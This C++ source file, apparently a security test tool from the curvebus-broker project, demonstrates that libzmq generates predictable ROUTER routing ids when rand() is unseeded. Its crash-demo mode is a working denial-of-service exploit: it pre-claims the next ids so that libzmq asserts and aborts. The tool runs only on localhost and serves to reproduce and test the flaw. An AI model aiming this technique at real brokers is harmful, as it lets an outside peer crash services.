// routing_id_probe: shows what routing ids libzmq's ROUTER generates in a
// process that never seeded rand() — as every program linking libzmq did
// unless it called srand() itself, curvebus-broker included until issue 10.
//
//   routing_id_probe [--sockets-before N]
//       Creates N REP sockets (libzmq builds REP on ROUTER: each draws a
//       counter start from rand() too; a broker's ZAP handler is one), then a
//       ROUTER on 127.0.0.1, connects one DEALER that sets no routing id and
//       prints, on one line, the hex of the id the ROUTER generated for it
//       (00 + the 32-bit big-endian counter).  Every unseeded run prints the
//       same value: a peer can predict the ids a freshly started ROUTER hands
//       out.
//   routing_id_probe --crash-demo [--sockets-before N]
//       Does the same, then connects 20 DEALERs that choose the next 20 ids
//       the counter will generate, then one more DEALER without a chosen id:
//       libzmq generates an id already taken and aborts (assertion in the
//       ROUTER's add_out_pipe).  Exits 1 if it did not abort within 10 s.
//
// Deliberately never calls srand(): that is the point.  Plain TCP, no CURVE,
// only 127.0.0.1.
#include <chrono>
#include <cstdio>
#include <cstring>
#include <memory>
#include <string>
#include <vector>

#include <zmq.hpp>

#include "attacker.hpp"

namespace {

using namespace std::chrono_literals;
using Clock = std::chrono::steady_clock;

int usage() {
  std::fprintf(stderr, "usage: routing_id_probe [--crash-demo] [--sockets-before N]\n");
  return 2;
}

// Receives one [routing id, body] message on `router` within `timeout`;
// returns the routing id, or nullopt.
std::optional<std::string> accept_one(zmq::socket_t& router, std::chrono::milliseconds timeout) {
  zmq::pollitem_t item{router.handle(), 0, ZMQ_POLLIN, 0};
  zmq::poll(&item, 1, timeout);
  if (!(item.revents & ZMQ_POLLIN)) return std::nullopt;
  zmq::message_t id, body;
  if (!router.recv(id, zmq::recv_flags::dontwait)) return std::nullopt;
  if (id.more()) (void)router.recv(body);
  return id.to_string();
}

}  // namespace

int main(int argc, char** argv) {
  bool crash_demo = false;
  int sockets_before = 0;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--crash-demo") {
      crash_demo = true;
    } else if (arg == "--sockets-before" && i + 1 < argc) {
      sockets_before = std::atoi(argv[++i]);
      if (sockets_before < 0 || sockets_before > 100) return usage();
    } else {
      return usage();
    }
  }

  zmq::context_t ctx(1);
  std::vector<zmq::socket_t> before;
  for (int i = 0; i < sockets_before; ++i) before.emplace_back(ctx, zmq::socket_type::rep);
  zmq::socket_t router(ctx, zmq::socket_type::router);
  router.set(zmq::sockopt::linger, 0);
  router.bind("tcp://127.0.0.1:*");
  const std::string endpoint = router.get(zmq::sockopt::last_endpoint);

  auto connect_dealer = [&](const std::string& routing_id) {
    auto d = std::make_unique<zmq::socket_t>(ctx, zmq::socket_type::dealer);
    d->set(zmq::sockopt::linger, 0);
    if (!routing_id.empty()) d->set(zmq::sockopt::routing_id, routing_id);
    d->connect(endpoint);
    d->send(zmq::str_buffer("hello"), zmq::send_flags::none);
    return d;
  };

  auto first = connect_dealer("");
  const auto id = accept_one(router, 5000ms);
  const auto counter = id ? curvebus::hostile::routing_id_counter(*id) : std::nullopt;
  if (!counter) {
    std::fprintf(stderr, "routing_id_probe: no generated routing id seen (got %s)\n",
                 id ? curvebus::hostile::to_hex(*id).c_str() : "nothing");
    return 1;
  }
  std::printf("%s\n", curvebus::hostile::to_hex(*id).c_str());
  std::fflush(stdout);
  if (!crash_demo) return 0;

  // Claim the next 20 ids the counter will generate.
  std::vector<std::unique_ptr<zmq::socket_t>> claims;
  for (std::uint32_t i = 1; i <= 20; ++i) {
    const std::string claimed = curvebus::hostile::generated_routing_id(*counter + i);
    claims.push_back(connect_dealer(claimed));
    const auto got = accept_one(router, 5000ms);
    if (!got || *got != claimed) {
      std::fprintf(stderr, "routing_id_probe: claim %s was not accepted\n",
                   curvebus::hostile::to_hex(claimed).c_str());
      return 1;
    }
    std::printf("claimed %s\n", curvebus::hostile::to_hex(claimed).c_str());
  }
  std::printf(
      "connecting a DEALER without a chosen id: libzmq will generate %s\n",
      curvebus::hostile::to_hex(curvebus::hostile::generated_routing_id(*counter + 1)).c_str());
  std::fflush(stdout);
  auto victim = connect_dealer("");
  // The ROUTER attaches the new pipe (and asserts) while it processes
  // commands, i.e. inside poll/recv.
  const auto deadline = Clock::now() + 10s;
  while (Clock::now() < deadline) {
    if (const auto got = accept_one(router, 100ms))
      std::printf("received from %s\n", curvebus::hostile::to_hex(*got).c_str());
  }
  std::printf("no abort within 10 s\n");
  return 1;
}
